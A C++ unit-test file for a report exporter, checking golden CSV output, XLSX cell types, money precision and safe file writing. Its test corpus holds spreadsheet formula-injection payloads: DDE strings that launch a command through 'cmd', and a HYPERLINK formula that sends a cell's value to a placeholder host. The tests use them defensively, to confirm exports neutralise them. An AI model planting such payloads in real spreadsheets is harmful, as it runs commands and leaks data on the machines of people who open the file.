// SPDX-FileCopyrightText: 2026 The Kaibang authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "csv_cells.h"
#include "report_writer.h"
#include "spreadsheet_text.h"
#include "xlsx_cells.h"

#include <QFile>
#include <QTemporaryDir>
#include <gtest/gtest.h>

using namespace kaibang;

namespace {

// What people have used to make a spreadsheet run a text, as titles, ids and aliases could bring it in.
const QStringList& formulaCorpus()
{
    static const QStringList corpus{
        QStringLiteral("=1+1"),
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")"),
        QStringLiteral("+1+1"),
        QStringLiteral("-1+1"),
        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("＝1+1"),
        QStringLiteral("＋1"),
        QStringLiteral("－1+1"),
        QStringLiteral("＠A1"),
        QStringLiteral("\"=1+1\""),
        QStringLiteral("a,=1+1"),
        QStringLiteral("line\n=1+1"),
        QStringLiteral("=1+1\",\"=2+2"),
        QStringLiteral("{=1+1}"),
        QStringLiteral("<b>&amp;</b>"),
    };
    return corpus;
}

ReportCell yuan(qint64 minor)
{
    return Money(minor, Currency::fromCode(u"CNY").value());
}

ReportTable tableOf(const QList<QList<ReportCell>>& rows)
{
    ReportTable table;
    table.name = QStringLiteral("orders");
    table.household = QStringLiteral("Pearls & Co");
    table.zone = QTimeZone("Asia/Shanghai");
    table.columns = {{QStringLiteral("order_id"), ColumnKind::Id, ColumnTotal::None},
                     {QStringLiteral("items"), ColumnKind::Text, ColumnTotal::None},
                     {QStringLiteral("placed_at"), ColumnKind::Instant, ColumnTotal::None},
                     {QStringLiteral("units"), ColumnKind::Count, ColumnTotal::Sum},
                     {QStringLiteral("payment"), ColumnKind::Code, ColumnTotal::None},
                     {QStringLiteral("currency"), ColumnKind::Currency, ColumnTotal::None},
                     {QStringLiteral("paid"), ColumnKind::Money, ColumnTotal::Sum}};
    table.rows = rows;
    auto made = withTotals(table);
    EXPECT_TRUE(made.ok());
    return made ? std::move(made).value() : table;
}

QList<ReportCell> order(const QString& id, const QString& items, qint64 minor)
{
    return {id,         items, Instant{1'795'000'000'000}, qint64{1}, QStringLiteral("paid"), QStringLiteral("CNY"),
            yuan(minor)};
}

TEST(Csv, IsTheGoldenFile)
{
    const ReportTable table =
        tableOf({order(QStringLiteral("3304360000000000001"), QStringLiteral("8 mm stud, white"), 129'900),
                 order(QStringLiteral("A-2"), QStringLiteral("珠 \"AAA\""), -50)});
    const QByteArray golden("\xEF\xBB\xBForder id,items,placed at,units,payment,currency,paid\r\n"
                            "3304360000000000001,\"8 mm stud, white\",2026-11-18 19:06:40,1,paid,CNY,1299.00\r\n"
                            "A-2,\"\xE7\x8F\xA0 \"\"AAA\"\"\",2026-11-18 19:06:40,1,paid,CNY,-0.50\r\n"
                            "total CNY,,,2,,CNY,1298.50\r\n");
    EXPECT_EQ(reportBytes(table, ReportFormat::Csv, {}).value(), golden);
}

TEST(Csv, FormulasComeBackAsTheTextsTheyWere)
{
    QList<QList<ReportCell>> rows;
    for (const QString& text : formulaCorpus())
        rows.append(order(text, text, 100));
    const QByteArray bytes = reportBytes(tableOf(rows), ReportFormat::Csv, {}).value();
    const auto cells = samples::csvCells(bytes.mid(3));
    ASSERT_EQ(cells.size(), rows.size() + 2);
    for (qsizetype i = 0; i < formulaCorpus().size(); ++i)
        for (const int column : {0, 1}) {
            const QString cell = cells.at(i + 1).value(column);
            EXPECT_FALSE(cell.isEmpty());
            EXPECT_FALSE(QStringLiteral("=+-@\t\r＝＋－＠").contains(cell.front())) << cell.toStdString();
            EXPECT_EQ(withoutGuard(cell), formulaCorpus().at(i));
        }
}

TEST(Csv, TheReaderOfThisTestSeesBrokenFiles)
{
    EXPECT_TRUE(samples::csvCells("a,b\n").isEmpty());
    EXPECT_TRUE(samples::csvCells("a\"b\r\n").isEmpty());
    EXPECT_TRUE(samples::csvCells("\"a\r\n").isEmpty());
    EXPECT_EQ(samples::csvCells("a,\"b\"\"\r\n\"\r\n"),
              (QList<QStringList>{{QStringLiteral("a"), QStringLiteral("b\"\r\n")}}));
}

TEST(Xlsx, FormulasAreTextCells)
{
    QList<QList<ReportCell>> rows;
    for (const QString& text : formulaCorpus())
        rows.append(order(text, text, 100));
    const auto bytes = reportBytes(tableOf(rows), ReportFormat::Xlsx, {});
    ASSERT_TRUE(bytes.ok()) << bytes.error().detail.toStdString();
    const samples::SheetFile sheet = samples::readSheet(bytes.value());
    ASSERT_EQ(sheet.problem.toStdString(), "");
    for (const samples::SheetCell& cell : sheet.cells)
        EXPECT_EQ(cell.formula, QString());
    for (qsizetype i = 0; i < formulaCorpus().size(); ++i)
        for (const char column : {'A', 'B'}) {
            const samples::SheetCell cell = sheet.cells.value(QLatin1Char(column) + QString::number(i + 2));
            EXPECT_EQ(cell.type, QStringLiteral("s"));
            // XML readers turn a lone carriage return into a line feed.
            EXPECT_EQ(QString(cell.value).replace(QLatin1Char('\r'), QLatin1Char('\n')),
                      QString(formulaCorpus().at(i)).replace(QLatin1Char('\r'), QLatin1Char('\n')));
        }
}

TEST(Xlsx, IdsAreTextAndAmountsAreNumbers)
{
    const ReportTable table =
        tableOf({order(QStringLiteral("3304360000000000001"), QStringLiteral("13800138000"), 129'910),
                 order(QStringLiteral("007"), {}, -50), order(QStringLiteral("big"), {}, 9'007'199'254'740'993)});
    const samples::SheetFile sheet = samples::readSheet(reportBytes(table, ReportFormat::Xlsx, {}).value());
    ASSERT_EQ(sheet.problem.toStdString(), "");
    const auto cell = [&](const char* at) { return sheet.cells.value(QLatin1String(at)); };
    EXPECT_EQ(cell("A2").type, QStringLiteral("s"));
    EXPECT_EQ(cell("A2").value, QStringLiteral("3304360000000000001"));
    EXPECT_EQ(cell("B2").type, QStringLiteral("s"));
    EXPECT_EQ(cell("A3").value, QStringLiteral("007"));
    EXPECT_EQ(cell("G2").type, QString());
    EXPECT_EQ(cell("G2").value, QStringLiteral("1299.1"));
    EXPECT_EQ(sheet.patterns.value(cell("G2").style), QStringLiteral("#,##0.00"));
    EXPECT_EQ(cell("G3").value, QStringLiteral("-0.5"));
    EXPECT_EQ(cell("G4").type, QStringLiteral("s")); // more digits than a number cell keeps
    EXPECT_EQ(cell("G4").value, QStringLiteral("90071992547409.93"));
    EXPECT_EQ(cell("A5").value, QStringLiteral("total CNY"));
    EXPECT_EQ(cell("D5").value, QStringLiteral("3"));
    EXPECT_EQ(cell("F5").value, QStringLiteral("CNY"));
    EXPECT_TRUE(sheet.bold.value(cell("A1").style));
    EXPECT_TRUE(sheet.bold.value(cell("A5").style));
    EXPECT_FALSE(sheet.bold.value(cell("A2").style));
    EXPECT_TRUE(sheet.sheetXml.contains(QStringLiteral("ySplit=\"1\"")) &&
                sheet.sheetXml.contains(QStringLiteral("state=\"frozen\"")));
    // 2026-11-18 19:06:40 in Shanghai: 46344 whole days since 1899-12-30.
    EXPECT_TRUE(cell("C2").value.startsWith(QStringLiteral("46344.796"))) << cell("C2").value.toStdString();
}

TEST(Xlsx, EveryAmountOfAYearComesBackToTheCent)
{
    QList<QList<ReportCell>> rows;
    QList<qint64> amounts;
    for (qint64 i = 0, minor = 1; i < 2000; ++i, minor = (minor * 48'271 + 11) % 100'000'000'000'000) {
        amounts.append(i % 3 ? minor : -minor);
        rows.append(order(QString::number(i), {}, amounts.last()));
    }
    const samples::SheetFile sheet = samples::readSheet(reportBytes(tableOf(rows), ReportFormat::Xlsx, {}).value());
    ASSERT_EQ(sheet.problem.toStdString(), "");
    const Currency cny = Currency::fromCode(u"CNY").value();
    for (qsizetype i = 0; i < amounts.size(); ++i) {
        // As a spreadsheet does: the digits become a double, which is shown with two decimals.
        const QString digits = sheet.cells.value(QStringLiteral("G%1").arg(i + 2)).value;
        const auto read = Money::parse(QString::number(digits.toDouble(), 'f', 2), cny);
        ASSERT_TRUE(read.ok());
        ASSERT_EQ(read.value().minor(), amounts.at(i));
    }
}

TEST(Xlsx, HostileTextsStillMakeASoundFile)
{
    QString controls;
    for (char16_t c = 0; c < 32; ++c)
        controls += QChar(c);
    const ReportTable table =
        tableOf({order(controls + QChar(0xFFFF) + QChar(0xD800), QString(40'000, QLatin1Char('x')), 1)});
    const auto bytes = reportBytes(table, ReportFormat::Xlsx, {});
    ASSERT_TRUE(bytes.ok()) << bytes.error().detail.toStdString();
    const samples::SheetFile sheet = samples::readSheet(bytes.value());
    ASSERT_EQ(sheet.problem.toStdString(), "");
    EXPECT_EQ(sheet.cells.value(QStringLiteral("G2")).value, QStringLiteral("0.01"));
    EXPECT_NE(samples::readSheet("no workbook").problem, QString()); // the control
}

TEST(WriteReport, ReplacesWhollyOrNotAtAll)
{
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("r.csv"));
    const ReportTable table = tableOf({order(QStringLiteral("1"), {}, 1)});
    ASSERT_TRUE(writeReport(table, path, ReportFormat::Csv, {}).ok());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    EXPECT_EQ(file.readAll(), reportBytes(table, ReportFormat::Csv, {}).value());
    const auto refused = writeReport(table, folder.filePath(QStringLiteral("missing/r.csv")), ReportFormat::Csv, {});
    ASSERT_FALSE(refused.ok());
    EXPECT_EQ(refused.error().kind, ErrorKind::Io);
}

TEST(WriteReport, KnowsItsFormats)
{
    EXPECT_EQ(reportFormatOf(QStringLiteral("XLSX")), ReportFormat::Xlsx);
    EXPECT_EQ(reportFormatOf(QStringLiteral("doc")), std::nullopt);
}

} // namespace
